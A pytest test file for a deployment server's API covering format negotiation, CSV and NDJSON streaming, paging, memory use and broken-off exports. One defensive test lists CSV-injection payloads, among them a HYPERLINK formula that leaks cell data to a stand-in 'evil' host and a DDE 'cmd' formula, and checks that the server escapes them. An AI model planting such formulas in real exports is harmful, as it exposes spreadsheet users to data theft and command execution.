"""JSON, NDJSON and CSV: which one a client gets, what is in it, and that it is all or visibly not."""

from __future__ import annotations

import asyncio
import contextlib
import csv
import gc
import io
import json
import logging
import os
import shutil
import sqlite3
import sys
import tracemalloc
from pathlib import Path
from typing import Any

import aiohttp
import pytest
from conftest import KEY, RECORD, Service, StartService, database_path
from hypothesis import given
from hypothesis import strategies as st
from processes import Installation, closing
from reading import API, drop_table, next_url, read, record, row, rows

from deployserver.api import formats, tables
from deployserver.models import Deployment
from deployserver.schemas import DEPLOYMENT_COLUMNS
from deployserver.storage import SQLiteDatabase
from deployserver.storage.indexing import index_next

JSON = "application/json; charset=utf-8"
NDJSON = "application/x-ndjson; charset=utf-8"
CSV = "text/csv; charset=utf-8; header=present"
LISTS = ["", "/current", "/frequency", "/compare?target=a&target=b"]


def lines_of(text: str) -> list[list[str]]:
    return list(csv.reader(io.StringIO(text, newline=""), strict=True))


# Which one


@pytest.mark.parametrize(
    ("accept", "content_type"),
    [
        (None, JSON),
        ("", JSON),
        ("*/*", JSON),
        ("application/*", JSON),
        ("application/json", JSON),
        ("APPLICATION/JSON; charset=utf-8", JSON),
        ("text/html,application/xhtml+xml,application/xml;q=0.9,*/*;q=0.8", JSON),  # a browser
        ("application/x-ndjson", NDJSON),
        ("application/ndjson", NDJSON),
        ("application/jsonl", NDJSON),
        ("text/csv", CSV),
        ("text/*", CSV),
        ("text/csv, */*;q=0.1", CSV),
        ("application/json;q=0.5, text/csv", CSV),
        ("application/json;q=0.5, text/csv;q=0.4", JSON),
        ("text/csv;q=0.5, application/x-ndjson;q=0.6", NDJSON),
        ("application/json;q=0, */*", NDJSON),  # anything but that
        ("text/csv;header=present", CSV),
        ("application/xml, text/csv;q=0.1", CSV),
        (" text/csv ; q = 0.9 , application/json;q=0.1", CSV),
    ],
)
async def test_the_accept_header_chooses(service: Service, accept: str | None, content_type: str) -> None:
    await record(service)
    headers = {} if accept is None else {"Accept": accept}
    for path in LISTS:
        answer = await read(service, path, headers=headers)
        assert (answer.status, answer.headers["Content-Type"]) == (200, content_type)
        assert "Accept" in answer.headers["Vary"]


async def test_an_accept_header_of_several_lines_is_one(service: Service) -> None:
    """RFC 9110, 5.2."""
    answer = await service.raw(
        b"GET /api/deployments HTTP/1.1\r\nHost: x\r\nX-ApiKey: abc12345\r\nConnection: close\r\n"
        b"Accept: application/xml\r\nAccept: application/json;q=0.5\r\n\r\n"
    )
    assert answer.startswith(b"HTTP/1.1 200 ")
    assert b"\r\nContent-Type: application/json" in answer


@pytest.mark.parametrize(
    "accept", ["application/xml", "image/*", "text/html", "text/csv;q=0", "*/*;q=0", "json", "text/csv;q=x"]
)
async def test_a_client_that_takes_none_of_them_is_told_so(service: Service, accept: str) -> None:
    """And how to choose one where the header cannot be changed."""
    for path in LISTS:
        answer = await read(service, path, headers={"Accept": accept})
        assert (answer.status, answer.headers["Content-Type"]) == (406, "text/plain; charset=utf-8")
        assert answer.text == (
            "The Accept header names none of application/json, application/x-ndjson, text/csv; "
            "add ?format= to choose one.\n"
        )


@pytest.mark.parametrize(("format_", "content_type"), [("json", JSON), ("ndjson", NDJSON), ("csv", CSV), ("CSV", CSV)])
@pytest.mark.parametrize("accept", ["application/json", "text/csv", "application/xml", "*/*;q=0"])
async def test_the_parameter_beats_the_header(service: Service, format_: str, content_type: str, accept: str) -> None:
    """It can be put into a link."""
    answer = await read(service, format=format_, headers={"Accept": accept})
    assert (answer.status, answer.headers["Content-Type"]) == (200, content_type)


async def test_errors_are_none_of_them(service: Service) -> None:
    for format_ in ("json", "ndjson", "csv"):
        answer = await read(service, format=format_, limit=0)
        assert (answer.status, answer.headers["Content-Type"]) == (400, "text/plain; charset=utf-8")
        answer = await read(service, format=format_, key="wrong")
        assert (answer.status, answer.headers["Content-Type"]) == (403, "text/plain; charset=utf-8")


# NDJSON

TEXTS = [
    "Zürich – 東京 🚀",
    'a "quoted" text\\with\\backslashes',
    "line\none\r\ntwo\rthree\ttab",
    "separators \u2028 and \u2029 and \u00a0.",
    "comma, semicolon; 'apostrophe'",
    "</script><b>&amp;",
    '{"Id":1}',
]


async def test_each_line_is_the_record_as_json_has_it(service: Service) -> None:
    for text in TEXTS:
        await record(service, Description=text)
    records = (await read(service)).json
    assert [item["Description"] for item in records] == TEXTS[::-1]
    for query in ({}, {"limit": 50}):
        answer = await read(service, format="ndjson", **query)
        *lines, end = answer.body.split(b"\n")
        assert end == b""
        assert [json.loads(line) for line in lines] == records


async def test_nothing_is_no_line(service: Service) -> None:
    assert (await read(service, format="ndjson")).body == b""
    assert (await read(service, format="csv")).text == ",".join(DEPLOYMENT_COLUMNS) + "\r\n"


# CSV


async def test_a_table_has_the_properties_of_the_record_in_their_order(service: Service) -> None:
    """Lines end as RFC 4180 has it; null is an empty cell."""
    item = await record(service, Date="2021-04-13T10:00:00.5Z", Url="http://buildserver:8622/x?a=1,2")
    answer = await read(service, format="csv")
    head, line = answer.body.decode().removesuffix("\r\n").split("\r\n")
    assert head.split(",") == list(item) == list(DEPLOYMENT_COLUMNS)
    ((*cells,),) = lines_of(line)
    assert cells == ["" if value is None else str(value) for value in item.values()]
    assert '"http://buildserver:8622/x?a=1,2"' in line


async def test_texts_come_back_as_they_were(service: Service) -> None:
    for text in TEXTS:
        await record(service, Description=text)
    answer = await read(service, format="csv")
    assert not answer.body.startswith(b"\xef\xbb\xbf")
    head, *lines = lines_of(answer.body.decode())
    column = head.index("Description")
    assert [line[column] for line in lines] == TEXTS[::-1]
    assert {len(line) for line in lines} == {len(head)}


FORMULAS = [
    "=1+1",
    "+1",
    "-1",
    "@SUM(A1)",
    '=HYPERLINK("http://evil/?"&A1)',
    "=cmd|' /C calc'!A0",
    "＝1",
    "＋1",
    "－1",
    "＠x",
]


@pytest.mark.parametrize("formula", FORMULAS)
async def test_no_cell_is_a_formula(service: Service, formula: str) -> None:
    """OWASP, CSV Injection: whoever may record could else run something where somebody opens the table."""
    names = ("GroupName", "PackageName", "Version", "Target", "Application", "UserName", "Description")
    item = await record(service, **dict.fromkeys(names, formula))
    for path, query in (("", {}), ("/current", {}), ("/compare", {"target": [formula, "b"]})):
        head, line = lines_of((await read(service, path, format="csv", **query)).body.decode())
        cells = dict(zip(head, line, strict=True))
        assert not [cell for cell in line if cell.startswith(("=", "+", "-", "@", "＝", "＋", "－", "＠"))]
        assert {cells[name] for name in names if name in cells} == {f"'{formula}"}
    assert {item[name] for name in names} == {formula}  # JSON is data and stays what it was


async def test_an_apostrophe_is_put_before_formulas_only(service: Service) -> None:
    texts = ["a=b", "1-1", "'quoted'", "1.0", "0", "#N/A", "a@b", "a\n=1"]
    for text in texts:
        await record(service, Description=text)
    head, *lines = lines_of((await read(service, format="csv")).body.decode())
    assert [line[head.index("Description")] for line in lines] == texts[::-1]


some_text = st.text(st.characters(exclude_categories=["Cs"]), min_size=1, max_size=20)


@given(st.lists(st.tuples(some_text, st.none() | some_text), max_size=5))
def test_a_table_can_be_read_back(texts: list[tuple[str, str | None]]) -> None:
    """Whatever is in it, but for the apostrophe that keeps a spreadsheet from computing."""
    deployments = [
        Deployment(number, "feed", row(description=text, group_name=group))
        for number, (text, group) in enumerate(texts, 1)
    ]
    written = formats._rows("csv", tables.DEPLOYMENTS, deployments)
    read_back = [dict(zip(DEPLOYMENT_COLUMNS, line, strict=True)) for line in lines_of(written)]
    assert [int(line["Id"]) for line in read_back] == [deployment.id for deployment in deployments]
    for line, (text, group) in zip(read_back, texts, strict=True):
        for cell, value in ((line["Description"], text), (line["GroupName"], group or "")):
            assert cell in (value, f"'{value}")
            assert not cell.startswith(("=", "+", "-", "@", "\t", "\r", "\n"))


# Pages and everything


@pytest.mark.parametrize("format_", ["ndjson", "csv"])
async def test_without_a_limit_everything_is_streamed(service: Service, format_: str) -> None:
    """In the order of the history, in one answer."""
    await service.store.add_deployments(rows(5000))
    for path in ("", "/current"):
        answer = await read(service, path, format=format_)
        assert answer.headers.get("Transfer-Encoding") == "chunked"
        assert "Content-Length" not in answer.headers
        assert "Link" not in answer.headers
        text = answer.body.decode()
        if format_ == "csv":
            head, *lines = lines_of(text)
            found = [int(line[head.index("Id")]) for line in lines]
        else:
            found = [json.loads(line)["Id"] for line in text.splitlines()]
        assert found == (list(range(5000, 0, -1)) if path == "" else list(range(1, 5001)))


@pytest.mark.parametrize("format_", ["ndjson", "csv"])
async def test_with_a_limit_there_are_pages(service: Service, format_: str) -> None:
    """Each table of which has its head."""
    await service.store.add_deployments(rows(5))
    answer = await read(service, format=format_, limit=2, count="true")
    seen = 0
    for _ in range(3):
        assert answer.headers["X-Total-Count"] == "5"
        lines = answer.text.splitlines()
        seen += len(lines) - (format_ == "csv")
        link = next_url(answer)
        if link is None:
            break
        answer = await service.request("GET", link.removeprefix(service.url), headers={"X-ApiKey": KEY})
    assert (seen, link) == (5, None)


async def test_a_stream_is_filtered_as_a_page_is(service: Service) -> None:
    await service.store.add_deployments([row(number, user_name=("alice", "Bob")[number % 2]) for number in range(3000)])
    answer = await read(service, format="ndjson", user="bob", since="2021-04-13", until="2021-04-14", q="number")
    assert len(answer.body.splitlines()) == 1500


async def test_records_that_arrive_meanwhile_do_not_double_others(service: Service) -> None:
    """A stream goes through the history from where it began, backwards."""
    await service.store.add_deployments(rows(4000, description="x" * 2000))
    async with service.session.get(f"{service.url}{API}?format=ndjson", headers={"X-ApiKey": KEY}) as response:
        first = json.loads(await response.content.readline())
        assert first["Id"] == 4000
        await service.store.add_deployments([row(5000), row(-1)])
        found = [json.loads(line)["Id"] async for line in response.content]
    assert found == [*range(3999, 0, -1), 4002]


async def test_a_head_of_everything_has_no_body(service: Service) -> None:
    await service.store.add_deployments(rows(1500))
    for format_ in ("ndjson", "csv"):
        answer = await read(service, method="HEAD", format=format_, count="true")
        assert (answer.status, answer.body, answer.headers["X-Total-Count"]) == (200, b"", "1500")
        assert "ETag" in answer.headers
        # The connection is good for what comes next.
        assert (await read(service, limit=1)).status == 200


async def test_what_is_known_is_not_streamed_again(service: Service) -> None:
    await service.store.add_deployments(rows(3))
    tag = (await read(service, format="csv")).headers["ETag"]
    assert (await read(service, format="csv", headers={"If-None-Match": tag})).status == 304
    assert (await read(service, format="ndjson", headers={"If-None-Match": tag})).status == 200


async def test_a_client_of_http_1_0_gets_everything_until_the_end_of_the_connection(service: Service) -> None:
    await service.store.add_deployments(rows(2500))
    reader, writer = await asyncio.open_connection("127.0.0.1", service.port)
    writer.write(b"GET /api/deployments?format=ndjson HTTP/1.0\r\nX-ApiKey: abc12345\r\n\r\n")
    head, _, body = (await reader.read()).partition(b"\r\n\r\n")
    writer.close()
    assert b"chunked" not in head.lower()
    assert len(body.splitlines()) == 2500


# Memory


async def test_a_stream_takes_no_more_memory_for_more_records(service: Service) -> None:
    """Server and client are in this process: what is allocated at most, for as many records and for five times more."""
    await service.store.add_deployments(rows(2000, description="x" * 1000))

    async def peak() -> int:
        gc.collect()
        tracemalloc.start()
        try:
            async with service.session.get(f"{service.url}{API}?format=csv", headers={"X-ApiKey": KEY}) as response:
                async for _ in response.content.iter_any():
                    pass
            return tracemalloc.get_traced_memory()[1]
        finally:
            tracemalloc.stop()

    await peak()
    some = await peak()
    await service.store.add_deployments(rows(8000, description="x" * 1000))
    assert await peak() < 1.5 * some


def resident(pid: int) -> int:
    """Return the memory of a process, in bytes (Linux)."""
    pages = int(Path(f"/proc/{pid}/statm").read_text().split()[1])
    return pages * os.sysconf("SC_PAGE_SIZE")


@pytest.mark.skipif(not sys.platform.startswith("linux"), reason="reads /proc")
async def test_a_slow_reader_of_200_000_records_costs_the_server_nothing(tmp_path: Path) -> None:
    """What is not fetched is not read ahead."""
    installation = Installation(tmp_path)
    installation.prepare()
    store = SQLiteDatabase(installation.database, 5)
    await store.open()
    for start in range(0, 200_000, 10_000):
        await store.add_deployments(
            [row(number, target=f"web{number % 50}", description="x" * 300) for number in range(start, start + 10_000)]
        )
    indexing = True
    while indexing:  # which the server would do meanwhile, and needs memory for
        async with store.indexing_transaction() as connection:
            indexing = await index_next(connection, 10_000)
    await store.close()
    async with closing([installation]):
        server = await installation.serve()
        async with aiohttp.ClientSession() as session:
            async with session.get(f"{server.url}{API}?format=csv&limit=1000", headers={"X-ApiKey": KEY}) as response:
                await response.read()
            before = most = resident(server.pid)
            async with session.get(
                f"{server.url}{API}?format=csv", headers={"X-ApiKey": KEY}, timeout=aiohttp.ClientTimeout(total=120)
            ) as response:
                lines = 0
                size = 0
                for _ in range(10):  # nobody reads
                    await asyncio.sleep(0.1)
                    most = max(most, resident(server.pid))
                while piece := await response.content.read(256 * 1024):
                    size += len(piece)
                    lines += piece.count(b"\n")
                    most = max(most, resident(server.pid))
        assert lines == 200_001
        assert size > 60_000_000
        assert most - before < 32_000_000  # pages that the database keeps, and as much for ten times as many records
        assert server.unexpected() == []
        await server.stop()


# Broken off


async def drop(service: Service) -> None:
    await drop_table(service, "deployments")


async def damage(service: Service) -> None:
    await asyncio.to_thread(_overwrite, database_path(service.settings))


def _overwrite(path: Path) -> None:
    with contextlib.closing(sqlite3.connect(path)) as connection:
        connection.execute("PRAGMA wal_checkpoint(TRUNCATE)").fetchall()
    with path.open("r+b") as file:
        file.seek(4096)
        file.write(b"\xff" * (path.stat().st_size - 4096))


async def large(start: StartService) -> Service:
    """A server with more records than a connection's buffers hold."""
    service = await start(security_lockout_failures=0)
    for _ in range(5):
        await service.store.add_deployments(rows(1000, description="x" * 16_000))
    return service


@pytest.mark.parametrize("break_", [drop, damage])
@pytest.mark.parametrize("format_", ["ndjson", "csv"])
async def test_an_answer_that_is_broken_off_is_seen_to_be(
    start: StartService, break_: Any, format_: str, caplog: pytest.LogCaptureFixture
) -> None:
    """An export that ends too early and looks whole is worse than none."""
    service = await large(start)
    url = f"{service.url}{API}?format={format_}"
    async with service.session.get(url, headers={"X-ApiKey": KEY}) as response:
        assert response.status == 200
        await response.content.readline()
        await break_(service)
        with pytest.raises(aiohttp.ClientError):
            await response.read()
    (broken,) = [entry for entry in caplog.records if "broken off" in entry.message]
    assert (broken.levelno, broken.exc_info) == (logging.ERROR, None)


async def test_an_old_client_sees_it_too(start: StartService) -> None:
    """To HTTP/1.0, which nginx speaks to servers behind it, an orderly close would be the end of the answer."""
    service = await large(start)
    reader, writer = await asyncio.open_connection("127.0.0.1", service.port)
    writer.write(b"GET /api/deployments?format=csv HTTP/1.0\r\nX-ApiKey: abc12345\r\n\r\n")
    assert (await reader.readline()).startswith(b"HTTP/1.0 200 ")
    await drop(service)
    with pytest.raises(ConnectionResetError):
        await reader.read()
    writer.close()


@pytest.mark.skipif(shutil.which("curl") is None, reason="needs curl")
async def test_curl_fails_where_an_answer_is_broken_off(start: StartService, tmp_path: Path) -> None:
    """As a script sees it: by its exit code."""
    service = await large(start)
    process = await asyncio.create_subprocess_exec(
        *("curl", "-sS", "-H", f"X-ApiKey: {KEY}", f"{service.url}{API}?format=csv"),
        stdout=asyncio.subprocess.PIPE,
        stderr=asyncio.subprocess.PIPE,
    )
    assert process.stdout is not None
    assert (await process.stdout.readline()).startswith(b"Id,FeedName,")
    await drop(service)
    await process.communicate()
    assert process.returncode in (18, 56)  # a partial file, or a connection that was reset


@pytest.mark.parametrize("format_", ["ndjson", "csv"])
async def test_a_record_that_cannot_be_written_breaks_an_answer_off(
    service: Service, format_: str, caplog: pytest.LogCaptureFixture
) -> None:
    """Somebody may have put into the database what no client can; the log says all of it."""
    await service.store.add_deployments([*rows(1500), row(date=-(2**62))])
    async with service.session.get(f"{service.url}{API}?format={format_}", headers={"X-ApiKey": KEY}) as response:
        with pytest.raises(aiohttp.ClientError):
            await response.read()
    assert [entry.message for entry in caplog.records if entry.exc_info] == ["an answer was broken off"]


async def test_an_answer_that_cannot_begin_is_an_error(service: Service) -> None:
    await record(service)
    await drop(service)
    for format_ in ("ndjson", "csv"):
        answer = await read(service, format=format_)
        assert (answer.status, answer.text) == (503, "The database is unavailable.\n")


async def test_a_client_that_has_heard_enough_is_no_error(
    start: StartService, caplog: pytest.LogCaptureFixture
) -> None:
    service = await large(start)
    caplog.clear()
    for _ in range(3):
        response = await service.session.get(f"{service.url}{API}?format=csv", headers={"X-ApiKey": KEY})
        await response.content.readline()
        response.close()
    assert (await read(service, limit=1)).status == 200
    assert (await service.post(RECORD)).status == 200
    assert [entry for entry in caplog.records if entry.levelno >= logging.WARNING] == []
